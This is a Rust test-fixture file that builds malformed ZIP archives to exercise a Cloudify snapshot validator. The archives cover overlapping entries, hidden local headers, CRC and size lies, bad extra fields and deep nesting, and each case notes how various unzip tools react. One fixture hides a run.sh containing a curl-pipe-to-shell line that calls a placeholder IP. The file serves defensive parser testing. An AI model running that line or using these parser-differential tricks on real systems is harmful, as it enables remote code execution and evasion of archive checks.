//! Byte coverage, local headers, methods, flags, extra fields and the data itself (H3–H7,
//! H15–H18, H22, H23).

use super::*;

impl Cases {
    /// H4, H6, H7: byte coverage and local headers against the central directory.
    pub(super) fn coverage(&mut self) {
        self.add(
            "H4",
            "two-records-one-header",
            &["entries-overlap"],
            "A second central record ('pg_data.orig') points at pg_data's local header: the overlapping-file \
             zip-bomb construction. unzip (Debian) rc 12; Python 3.12.2+ 'Overlapped entries'; Go, 7-Zip and rc-zip \
             miss it.",
            with(l5(), |z| {
                let i = z.find("pg_data").expect("pg_data");
                let mut alias = z.entries[i].clone().alias_of(i);
                alias.cd.name = Some(b"pg_data.orig".to_vec());
                z.entries.push(alias);
            }),
        );
        self.add(
            "H4",
            "data-into-central-directory",
            &["entry-overlaps-central-directory"],
            "The last entry (agents.json) declares 40 more compressed bytes than it has, so its data runs into the \
             central directory.",
            with(l5(), |z| {
                let agents = z.remove("agents.json");
                let csize = deflate(&agents.data).len() as u32 + 40;
                z.entries.push(agents.both(Fields { compressed_size: Some(csize), ..Fields::default() }));
            }),
        );
        self.add(
            "H7",
            "hidden-local-header",
            &["hidden-local-header"],
            "A local header with a shell script in a gap the central directory does not list. Streaming readers \
             extract it; unzip -t, testzip() and Go pass the archive.",
            with(l5(), |z| {
                let i = z.find("pg_data").expect("pg_data") + 1;
                z.entries.insert(i, Entry::file("run.sh", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n").hidden());
            }),
        );
        self.add(
            "H7",
            "unexplained-gap",
            &["unexplained-bytes"],
            "64 bytes of junk between two entries, covered by no structure.",
            with(l5(), |z| z.entry_mut("agents.json").pad_before = vec![0xA5; 64]),
        );
        self.add(
            "H6",
            "local-header-missing",
            &["local-header-missing"],
            "networks.json's central record points at offset 7, inside another local header.",
            with(l5(), |z| z.entry_mut("networks.json").local_offset = Some(7)),
        );

        let lfh = |f: Fields| with(l5(), |z| z.entry_mut("networks.json").lfh = f);
        self.add(
            "H6",
            "local-name-differs",
            &["local-name-mismatch"],
            "networks.json's local header says 'networks.jsoN'. Python refuses the entry; unzip warns and uses the \
             central name.",
            lfh(Fields { name: Some(b"networks.jsoN".to_vec()), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-method-differs",
            &["local-method-mismatch"],
            "The local header says stored, the central record deflate. unzip inflates nothing ('invalid compressed \
             data'); Python passes.",
            lfh(Fields { method: Some(0), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-flags-differ",
            &["local-flags-mismatch"],
            "The local header sets the UTF-8 flag, the central record does not.",
            lfh(Fields { flags: Some(0x800), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-crc-differs",
            &["local-crc-mismatch"],
            "The local header's CRC differs from the central one (the data matches the central one). unzip reports a \
             bad CRC; Python passes.",
            lfh(Fields { crc: Some(0x1234_5678), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-size-differs",
            &["local-size-mismatch"],
            "The local header's uncompressed size is one byte larger than the central one. Python passes.",
            with(l5(), |z| {
                let e = z.entry_mut("networks.json");
                e.lfh.uncompressed_size = Some(e.data.len() as u32 + 1);
            }),
        );
    }

    /// H15, H16, H22, H23: methods, flags and extra fields.
    pub(super) fn headers(&mut self) {
        self.add(
            "H15",
            "encrypted",
            &["encrypted-entry"],
            "pg_data with the encryption flag set in both headers. Python raises RuntimeError; restore cannot \
             extract it.",
            with(l5(), |z| z.entry_mut("pg_data").flags = 1),
        );
        self.add(
            "H15",
            "encrypted-central-only",
            &["encrypted-entry"],
            "The encryption flag only in the central record: unzip asks for a password, Python raises RuntimeError, \
             streaming readers extract it.",
            with(l5(), |z| z.entry_mut("pg_data").cd.flags = Some(1)),
        );
        self.add(
            "H15",
            "aes",
            &["encrypted-entry"],
            "A WinZip AES entry (method 99, extra 0x9901, flag bit 0).",
            with(l5(), |z| {
                map(z, "networks.json", |e| {
                    let stream = deflate(&e.data);
                    e.method(Method::Other(99))
                        .raw_compressed(stream)
                        .flags(1)
                        .extra(&[0x01, 0x99, 7, 0, 2, 0, b'A', b'E', 3, 8, 0])
                });
            }),
        );
        for (name, method, about) in [
            (
                "method-99",
                99,
                "Method 99 without AES data. unzip prints 'No errors detected' for the files it tested and skips \
                 this one (rc 81); Python raises NotImplementedError.",
            ),
            (
                "deflate64",
                9,
                "Deflate64 (method 9), as Windows Explorer writes for large files. The Python 2 restores (≤ 5.0.5) \
                 cannot read it.",
            ),
            ("bzip2", 12, "bzip2 (method 12), which Cloudify never writes."),
        ] {
            self.add(
                "H16",
                name,
                &["unsupported-method"],
                about,
                with(l5(), |z| z.entry_mut("networks.json").method = Method::Other(method)),
            );
        }
        self.add_warn(
            "H22",
            "descriptor-signed",
            &["data-descriptor"],
            "networks.json with a signed data descriptor (flag bit 3, zeros in the local header). Cloudify never \
             writes one; everyone reads it.",
            with(l5(), |z| z.entry_mut("networks.json").descriptor = Some(Descriptor::Signed)),
        );
        self.add(
            "H22",
            "descriptor-unsigned",
            &["data-descriptor"],
            "agents.json with an unsigned data descriptor; streaming readers must guess where the data ends.",
            with(l5(), |z| z.entry_mut("agents.json").descriptor = Some(Descriptor::Unsigned)),
        );
        self.add_err(
            "H23",
            "extra-overrun",
            &["extra-field-malformed"],
            "An extended-timestamp extra field whose length (255) runs past the extra area: Python 3.7+ refuses the \
             whole archive, Info-ZIP and 7-Zip read it.",
            with(l5(), |z| map(z, "networks.json", |e| e.extra(&[0x55, 0x54, 0xFF, 0, 1, 2, 3]))),
        );
        self.add_warn(
            "H23",
            "extra-duplicate",
            &["extra-field-malformed"],
            "The same extended-timestamp extra field twice in both headers.",
            with(l5(), |z| {
                let ts = [0x55, 0x54, 5, 0, 1, 0x80, 0x47, 0x47, 0x66];
                map(z, "networks.json", |e| e.extra(&ts).extra(&ts));
            }),
        );
        self.add(
            "H23",
            "zip64-extra-duplicate",
            &["extra-field-malformed"],
            "A ZIP64 entry whose headers carry a second ZIP64 extra field.",
            with(l5(), |z| {
                map(z, "networks.json", |e| {
                    let mut x = vec![1, 0, 16, 0];
                    x.extend((e.data.len() as u64).to_le_bytes());
                    x.extend((deflate(&e.data).len() as u64).to_le_bytes());
                    e.zip64().extra(&x)
                });
            }),
        );
        self.zipdiff_headers();
    }

    /// H3, H5, H17, H18: the data itself.
    pub(super) fn data(&mut self) {
        self.add(
            "H17",
            "crc-flipped",
            &["crc-mismatch"],
            "networks.json's stream decodes to data with one byte changed. unzip and Python catch it.",
            with(l5(), |z| lying_stream(z.entry_mut("networks.json"), b"{\"active_networks\": [\"defaulu\"]}")),
        );
        self.add(
            "H17",
            "crc-zero",
            &["crc-mismatch"],
            "networks.json with CRC 0 in both headers and intact data. Go and rc-zip skip CRC 0 and pass it.",
            with(l5(), |z| map(z, "networks.json", |e| e.both(Fields { crc: Some(0), ..Fields::default() }))),
        );
        self.add(
            "H18",
            "size-larger",
            &["size-mismatch"],
            "pg_data declares 1000 bytes more than it inflates to, in both headers. unzip and Python pass it.",
            with(l5(), |z| {
                map(z, "pg_data", |e| {
                    let n = e.data.len() as u32 + 1000;
                    e.both(Fields { uncompressed_size: Some(n), ..Fields::default() })
                });
            }),
        );
        self.add(
            "H18",
            "size-smaller",
            &["size-mismatch"],
            "pg_data declares 100 bytes less than it inflates to. unzip passes; Python reports a CRC error over the \
             truncated output.",
            with(l5(), |z| {
                map(z, "pg_data", |e| {
                    let n = e.data.len() as u32 - 100;
                    e.both(Fields { uncompressed_size: Some(n), ..Fields::default() })
                });
            }),
        );
        self.add(
            "H18",
            "stored-stream-short",
            &["size-mismatch"],
            "A stored entry (networks.json) whose stream (compressed size) is 10 bytes shorter than its declared \
             uncompressed size. unzip warns 'ucsize <> csize'.",
            with(l5(), |z| {
                let e = z.entry_mut("networks.json");
                let n = e.data.len();
                e.method = Method::Stored;
                e.raw = Some(e.data[..n - 10].to_vec());
            }),
        );
        self.add(
            "H18",
            "deflate-slack",
            &["compressed-size-mismatch"],
            "pg_data's DEFLATE stream ends 16 bytes before its declared compressed size (trailing slack that can \
             hide data).",
            with(l5(), |z| {
                let e = z.entry_mut("pg_data");
                let mut s = deflate(&e.data);
                s.extend([0u8; 16]);
                e.raw = Some(s);
            }),
        );
        self.add(
            "H18",
            "deflate-corrupt",
            &["deflate-invalid"],
            "networks.json's stream is 40 bytes of 0xFF (reserved block type): not DEFLATE at all.",
            with(l5(), |z| z.entry_mut("networks.json").raw = Some(vec![0xFF; 40])),
        );
        self.add(
            "H3",
            "ratio-impossible",
            &["ratio-impossible"],
            "A deflated entry declaring 50,000,000 bytes for a stream of about 20: a ratio DEFLATE cannot reach (max \
             1032:1), so the sizes lie.",
            l5().push(
                Entry::file("deployments/default_tenant/hello-world-dep/disk.img", vec![0u8; 4096])
                    .both(Fields { uncompressed_size: Some(50_000_000), ..Fields::default() }),
            ),
        );

        self.add(
            "H5",
            "wagon-not-targz",
            &["nested-archive-invalid"],
            "plugins/<id>/*.wgn is not a gzip tar. Restore on 4.0–5.0.5 fails to install it.",
            with(l5(), |z| {
                let e = z.entries.iter_mut().find(|e| e.name.ends_with(b".wgn")).expect("a wagon");
                e.data = b"this is not a wagon".to_vec();
            }),
        );
        self.add(
            "H5",
            "plugin-zip-garbage",
            &["nested-archive-invalid"],
            "tenants/<t>/plugins/<id>.zip holds garbage instead of a zip.",
            with(n1(), |z| {
                let e = z
                    .entries
                    .iter_mut()
                    .find(|e| e.name.starts_with(b"tenants/default_tenant/plugins/") && e.name.ends_with(b".zip"))
                    .expect("plugin zip");
                e.data = b"PK\x03\x04 but not really a zip".to_vec();
            }),
        );
        let mut inner =
            ZipBuilder::with(vec![Entry::file("blueprint.yaml", "tosca_definitions_version: cloudify_dsl_1_3\n")])
                .build();
        for depth in 0..32 {
            inner = ZipBuilder::with(vec![Entry::file(format!("level-{depth}.zip"), inner).stored()]).build();
        }
        self.add(
            "H5",
            "nesting-deep",
            &["nesting-too-deep"],
            "A blueprint archive that is a zip nested 33 deep. No tester recurses at all.",
            with(n1(), |z| set(z, "tenants/default_tenant/blueprints/hello-world.tar.gz", inner)),
        );
    }
}

impl Cases {
    /// ZipDiff's header classes (A2: descriptors, multiple ZIP64) and zipdetails' malformed extras.
    fn zipdiff_headers(&mut self) {
        let (mut bytes, l) =
            with(l5(), |z| z.entry_mut("networks.json").descriptor = Some(Descriptor::Signed)).build_with_layout();
        let i = l5().entries.iter().position(|e| e.name == b"networks.json").expect("networks.json");
        patch_u32(&mut bytes, l.entries[i].end - 8, 0);
        self.raw_err(
            "H22",
            "descriptor-lies",
            &["descriptor-mismatch"],
            "networks.json's data descriptor says 0 compressed bytes: Python, Info-ZIP and 7-Zip read the central \
             sizes, Java ZipInputStream the descriptor.",
            bytes,
        );
        self.add_err(
            "H22",
            "descriptor-stored",
            &["data-descriptor"],
            "A stored entry with a data descriptor: streaming readers cannot find its end (Java ZipInputStream \
             refuses it).",
            with(l5(), |z| map(z, "networks.json", |e| e.stored().descriptor(Descriptor::Unsigned))),
        );
        self.add_err(
            "H23",
            "extra-overrun-local",
            &["extra-field-malformed"],
            "A local-header-only extra field running past the extra area: bsdtar refuses the entry, Python ignores \
             local extras.",
            with(l5(), |z| z.entry_mut("networks.json").lfh_extra = vec![0x55, 0x54, 9, 0, 1, b'a', b'b', b'c', b'd']),
        );
        self.add_err(
            "H13",
            "zip64-extra-duplicate-differs",
            &["zip64-extra-invalid"],
            "A ZIP64 entry with a second ZIP64 extra field holding sizes 0: Python reads the first, Java \
             ZipInputStream the last.",
            with(l5(), |z| {
                map(z, "networks.json", |e| e.zip64().extra(&[[1u8, 0, 16, 0].as_slice(), &[0; 16]].concat()))
            }),
        );
        for (name, extra, about) in [
            (
                "ut-truncated",
                vec![0x55, 0x54, 5, 0, 3, 1, 2, 3, 4],
                "A UT timestamp flagged mtime+atime holding only mtime.",
            ),
            (
                "ux-bad-sizes",
                vec![0x75, 0x78, 6, 0, 1, 4, 0, 0, 0, 0],
                "An Info-ZIP ux field whose GID size runs past the field.",
            ),
            (
                "xceed-truncated",
                [[0x4e, 0x55, 8, 0].as_slice(), b"NUCX", &[9, 0, 0, 0]].concat(),
                "A truncated Xceed Unicode field.",
            ),
            ("growth-hint-bad-sig", vec![0x20, 0xa2, 4, 0, 0xab, 0x12, 0, 0], "A growth hint with signature 0x12ab."),
            (
                "minizip-hash-overflow",
                vec![0x51, 0x1a, 6, 0, 10, 0, 16, 0, 1, 2],
                "A minizip-ng MD5 hash field with 2 of 16 digest bytes.",
            ),
            ("minizip-signature-empty", vec![0xc5, 0x10, 0, 0], "An empty minizip-ng CMS signature field."),
            (
                "ntfs-short",
                vec![0x0a, 0, 8, 0, 0, 0, 0, 0, 1, 0, 24, 0],
                "An NTFS times field cut inside its time record.",
            ),
        ] {
            self.add_warn(
                "H23",
                name,
                &["extra-field-malformed"],
                about,
                with(l5(), |z| map(z, "networks.json", |e| e.extra(&extra))),
            );
        }
        self.add_warn(
            "H23",
            "bad-dos-date",
            &["dos-datetime-invalid"],
            "networks.json dated month 13: every reader extracts the same bytes with a different modification time.",
            with(l5(), |z| z.entry_mut("networks.json").mdate = (44 << 9) | (13 << 5) | 1),
        );
    }
}
